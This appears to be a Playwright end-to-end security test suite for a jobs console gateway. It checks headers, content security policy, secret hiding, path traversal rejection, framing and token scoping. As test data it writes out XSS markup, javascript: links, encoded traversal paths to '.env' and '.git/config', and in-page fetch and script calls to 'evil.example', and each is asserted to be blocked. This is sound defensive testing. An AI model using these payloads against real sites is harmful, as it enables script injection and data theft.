import { readdirSync, readFileSync } from 'node:fs'
import { request as httpRequest, type IncomingHttpHeaders } from 'node:http'
import { test as withoutPage } from '@playwright/test'
import { expect, test } from './fixture.ts'
import { controlUrl, gatewayUrl, hubUrl, oidcUrl } from './ports.ts'

/** What a browser accepts when a person opens a page. */
const asPage = { accept: 'text/html,application/xhtml+xml,*/*;q=0.8' }
const list = '/jobs/39596/targets?condition=Failure'

/** A request with its path exactly as it is written; clients that know addresses would tidy it. */
function ask(path: string, headers: Record<string, string> = {}, method = 'GET') {
  return new Promise<{ status: number; headers: IncomingHttpHeaders; text: string }>((resolve, reject) => {
    const sent = httpRequest(gatewayUrl, { path, method, headers, agent: false }, (answer) => {
      let text = ''
      answer.setEncoding('utf8').on('data', (part: string) => (text += part))
      answer.on('end', () => resolve({ status: answer.statusCode ?? 0, headers: answer.headers, text }))
    })
    sent.on('error', reject).end()
  })
}

withoutPage('every kind of answer bears the headers that keep it from doing harm', async () => {
  const asset = readdirSync('dist/assets').find((name) => name.endsWith('.js')) ?? ''
  const answers = [
    { path: '/', headers: asPage, status: 200, cache: 'no-store' },
    { path: '/jobs/39596/targets?condition=Failure', headers: asPage, status: 200, cache: 'no-store' },
    { path: '/callback?error=access_denied', headers: asPage, status: 200, cache: 'no-store' },
    { path: `/assets/${asset}`, status: 200, cache: 'public, max-age=31536000, immutable' },
    { path: '/robots.txt', status: 200, cache: 'no-cache' },
    { path: '/config.json', status: 200, cache: 'no-store' },
    { path: '/healthz', status: 200, cache: 'no-store' },
    { path: '/api/v2/jobs/39596', status: 401, cache: 'no-store' },
    { path: '/assets/gone.js', status: 404, cache: 'no-store' },
    { path: '/', headers: asPage, method: 'POST', status: 405, cache: 'no-store' },
    { path: '/api/v2/jobs/39596', method: 'TRACE', status: 405, cache: 'no-store' },
    { path: '/../package.json', status: 400, cache: 'no-store' },
  ]
  for (const { path, headers = {}, method = 'GET', status, cache } of answers) {
    const answer = await ask(path, headers, method)
    expect([method, path, answer.status]).toEqual([method, path, status])
    expect(answer.headers, path).toMatchObject({
      'cache-control': cache,
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'cross-origin-resource-policy': 'same-origin',
    })
    for (const name of ['set-cookie', 'server', 'x-powered-by', 'access-control-allow-origin'])
      expect(answer.headers, path).not.toHaveProperty(name)
    const policy = String(answer.headers['content-security-policy'])
    expect(policy, path).toContain("default-src 'none'")
    expect(policy, path).toContain("frame-ancestors 'none'")
    expect(policy, path).not.toMatch(/unsafe-|\*|https?:(?!\/\/127\.0\.0\.1:)|\bblob:/)
  }
})

withoutPage('what the gateway signs in with is in no file of the build and in no answer', async () => {
  const secret = readFileSync('.sandbox/e2e/bigchange-client-secret', 'utf8').trim()
  expect(secret.length).toBeGreaterThan(20)
  const hidden = new RegExp(
    `${secret}|jobs-console-gateway|bigchange-client-secret|CLIENT_SECRET_FILE|CUSTOMER_ID`,
  )
  const files = readdirSync('dist', { recursive: true, withFileTypes: true }).filter((file) => file.isFile())
  expect(files.length).toBeGreaterThan(10)
  for (const { parentPath, name } of files)
    expect(readFileSync(`${parentPath}/${name}`, 'latin1'), name).not.toMatch(hidden)
  for (const path of ['/', '/config.json', '/healthz', '/bigchange/v1/jobs/1', '/bigchange/auth/tokens']) {
    const { text, headers } = await ask(path, asPage)
    expect(text + JSON.stringify(headers), path).not.toMatch(hidden)
  }
})

withoutPage(
  'the page’s policy lets in its own scripts and the sign-in service, and nothing else',
  async () => {
    const { headers, text } = await ask('/', asPage)
    const policy = Object.fromEntries(
      String(headers['content-security-policy'])
        .split('; ')
        .map((rule) => [rule.split(' ', 1)[0], rule.split(' ').slice(1).join(' ')]),
    )
    expect(policy).toMatchObject({
      'script-src': expect.stringMatching(/^'self'( 'sha256-[\w+/]+=*')+$/),
      'style-src': expect.stringMatching(/^'self'( 'sha256-[\w+/]+=*')*$/),
      'connect-src': `'self' ${oidcUrl}`,
      'object-src': "'none'",
      'base-uri': "'none'",
      'form-action': "'none'",
      'require-trusted-types-for': "'script'",
      'trusted-types': "'none'",
    })
    expect(headers).toMatchObject({ 'cross-origin-opener-policy': 'same-origin' })
    expect(headers['permissions-policy']).toContain('camera=()')
    expect(text).not.toMatch(/ on\w+=|javascript:/i)
  },
)

withoutPage(
  'nothing but the build is served: no sources, no secrets, however the path is written',
  async () => {
    for (const path of [
      '/.env',
      '/.git/config',
      '/package.json',
      '/server/main.ts',
      '/.vite/manifest.json',
      '/assets/../package.json',
      '/assets/..%2fpackage.json',
      '/%2e%2e/package.json',
      '/%252e%252e/package.json',
      '/..%5cpackage.json',
      '/assets/%00',
      '//evil.example/',
      '/%5c%5cevil.example',
      '/api/../config.json',
      '/api/%2e%2e/healthz',
    ]) {
      const { status, text } = await ask(path)
      expect([400, 404], path).toContain(status)
      expect(text, path).not.toMatch(/"private"|client_id|isEntry/)
    }
    const built = readdirSync('dist', { recursive: true }).map(String)
    expect(built.filter((name) => /\.map$|\.tsx?$|\.env/.test(name))).toEqual([])
    const names = built.filter((name) => name.endsWith('.js'))
    expect(names.length).toBeGreaterThan(5)
    for (const name of names) {
      expect((await ask(`/${name}.map`)).status).toBe(404)
      expect((await ask(`/${name}`)).text).not.toMatch(/sourceMappingURL/)
    }
  },
)

test('markup and scripts in data are text', async ({ page, signIn, tenant }) => {
  const markup = `<img src="https://evil.example/x" onerror="document.title='owned'"><script>document.title='owned'</script>`
  await tenant.changeTarget('39596', '2000001', {
    'Target.StateDescription': markup,
    'Target.Location': 'javascript:document.title="owned"',
    'Target.Data': { link: 'javascript:alert(1)', html: markup, __proto__: null, constructor: 'x' },
  })
  const foreign: string[] = []
  page.on('request', (request) => {
    if (![gatewayUrl, oidcUrl].includes(new URL(request.url()).origin)) foreign.push(request.url())
  })
  await signIn('operator', '/jobs/39596/targets/2000001')
  const main = page.getByRole('main')
  await expect(main).toContainText(markup)
  await expect(main).toContainText('javascript:document.title')
  await expect(page.locator('[href^="javascript:"], img[src*="evil"], main script')).toHaveCount(0)
  for (const link of await page.getByRole('link').all()) {
    const address = await link.evaluate((element) => element instanceof HTMLAnchorElement && element.href)
    expect(address).toMatch(/^http:\/\/127\.0\.0\.1:/)
  }
  await expect(page).toHaveTitle(/Target 2000001|Targets/)
  expect(foreign).toEqual([])
})

test('the job of hostile texts is shown as any other', async ({ page, signIn }) => {
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await signIn('operator', '/jobs/39606/targets')
  await expect(page.getByRole('table', { name: 'Targets' }).getByRole('rowheader').first()).toBeVisible()
  await expect(page.getByRole('table')).toContainText('<script>document.title="owned"</script>')
  await expect(page.getByRole('heading', { name: 'Signed out' })).toHaveCount(0)
  await expect(page.locator('form, main input[name=password], main img, main script')).toHaveCount(0)
  await expect(page).toHaveTitle(/^Targets/)
  // A word of ten thousand letters does not push the page aside.
  expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0)
  expect(dialogs).toEqual([])
})

test('a script that gets into the page all the same does not run, and reaches nobody', async ({
  page,
  signIn,
  expectFailures,
}) => {
  expectFailures(/Content Security [Pp]olicy|TrustedHTML|TrustedScript|evil\.example/)
  await signIn('operator', list)
  const foreign: string[] = []
  page.on('requestfinished', (request) => request.url().includes('evil') && foreign.push(request.url()))
  const refused = await page.evaluate(async () => {
    const tries: Record<string, () => unknown> = {
      innerHTML: () => (document.body.innerHTML = '<img src=x onerror="window.owned=1">'),
      inlineScript: () => {
        const script = document.createElement('script')
        script.textContent = 'window.owned=1'
        document.head.append(script)
      },
      foreignScript: () => {
        const script = document.createElement('script')
        script.src = 'https://evil.example/x.js'
        document.head.append(script)
      },
      handler: () => document.body.setAttribute('onclick', 'window.owned=1'),
      // oxlint-disable-next-line typescript/no-implied-eval -- what an attacker would try
      text: () => setTimeout('window.owned=1'),
      policy: () =>
        Reflect.get(window, 'trustedTypes').createPolicy('default', { createHTML: (text: string) => text }),
    }
    const thrown = Object.entries(tries).filter(([, attempt]) => {
      try {
        attempt()
        return false
      } catch {
        return true
      }
    })
    new Image().src = 'https://evil.example/leak'
    const sent = await fetch('https://evil.example/leak').then(
      () => 'sent',
      () => 'refused',
    )
    return { thrown: thrown.map(([name]) => name), sent, owned: Reflect.get(window, 'owned') }
  })
  expect(refused).toEqual({
    thrown: ['innerHTML', 'inlineScript', 'foreignScript', 'handler', 'text', 'policy'],
    sent: 'refused',
    owned: undefined,
  })
  expect(foreign).toEqual([])
  await expect(page.getByRole('table', { name: 'Targets' })).toBeVisible()
})

test('no other page can hold the console in a frame', async ({ page, expectFailures }) => {
  expectFailures(/frame-ancestors|favicon/, new RegExp(`^failed: GET ${gatewayUrl}/$`))
  await page.goto(`${controlUrl}/healthz`)
  await page.evaluate((url) => {
    document.title = 'Another page'
    document.documentElement.lang = 'en'
    document.body.innerHTML = `<main><h1>Another page</h1><iframe title="console" src="${url}"></iframe></main>`
  }, gatewayUrl)
  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
  await expect(page.frameLocator('iframe').getByRole('button', { name: 'Sign in' })).toHaveCount(0)
})

test('the token goes to Content Hub’s address alone, whatever links the answers bear, and no cookie with it', async ({
  page,
  signIn,
  tenant,
}) => {
  const bearers = new Set<string>()
  const cookies: string[] = []
  const asked: Promise<void>[] = []
  page.on('request', (request) => {
    const look = async () => {
      const { authorization, cookie } = await request.allHeaders()
      const { origin, pathname } = new URL(request.url())
      if (authorization) bearers.add(`${origin}${/^\/\w+/.exec(pathname)?.[0]}`)
      if (origin === gatewayUrl && pathname.startsWith('/api/') && cookie) cookies.push(cookie)
      if (origin === hubUrl) bearers.add(`${hubUrl} was asked`)
    }
    asked.push(look())
  })
  await tenant.fault({
    path: '/api/v2/jobs/39601',
    kind: 'status',
    status: 200,
    headers: { 'Set-Cookie': 'stolen=1; Path=/', 'Content-Type': 'application/json' },
    body: {
      id: 39601,
      properties: {},
      relations: { JobToTarget: { href: 'https://evil.example/api/entities/39601/relations/JobToTarget' } },
      created_by: { href: 'https://evil.example/api/entities/6' },
      self: { href: 'https://evil.example/api/jobs/39601' },
    },
  })
  await signIn('operator', '/jobs/39601')
  await expect(page.getByRole('heading', { name: 'Job 39601' })).toBeVisible()
  await page.goto(list)
  await page.getByRole('button', { name: 'Next page' }).click()
  await expect(page.getByRole('navigation', { name: 'Pagination' })).toContainText('26–50 of 412')
  await expect(page.getByRole('table', { name: 'Targets' })).toHaveAttribute('aria-busy', 'false')
  await page.getByRole('link', { name: /^\d+$/ }).first().click()
  await expect(page.getByRole('complementary')).toContainText('26 of 412')
  await Promise.all(asked)
  expect(bearers).toEqual(new Set([`${gatewayUrl}/api`]))
  expect(cookies).toEqual([])
  const kept = await page.context().cookies(gatewayUrl)
  expect(kept.map(({ name }) => name)).not.toContain('stolen')
})

test('a browser that forbids lasting storage only forgets choices', async ({ page, signIn }) => {
  await page.addInitScript(() => {
    Object.defineProperty(window, 'localStorage', {
      get() {
        throw new DOMException('Access is denied for this document.', 'SecurityError')
      },
    })
  })
  await signIn('operator', list)
  await expect(page.getByRole('navigation', { name: 'Pagination' })).toContainText('of 412')
  await page.getByTitle('Dark theme').click()
  await expect(page.locator('html')).toHaveAttribute('data-scheme', 'dark')
  await page.reload()
  await expect(page.getByRole('navigation', { name: 'Pagination' })).toContainText('of 412')
  await expect(page.getByRole('alert')).toHaveCount(0)
})

test('a browser that forbids the tab’s storage is told in words, not with a blank page', async ({ page }) => {
  await page.addInitScript(() => {
    for (const name of ['localStorage', 'sessionStorage'])
      Object.defineProperty(window, name, {
        get() {
          throw new DOMException('Access is denied for this document.', 'SecurityError')
        },
      })
  })
  await page.goto(list)
  await page.getByRole('button', { name: 'Sign in' }).click()
  await expect(page.getByRole('alert')).toContainText('forbids the console to keep anything in this tab')
  await expect(page.getByRole('alert')).toContainText('Allow this site to keep data in the browser')
  await expect(page.getByRole('button', { name: 'Sign in' })).toBeEnabled()
})
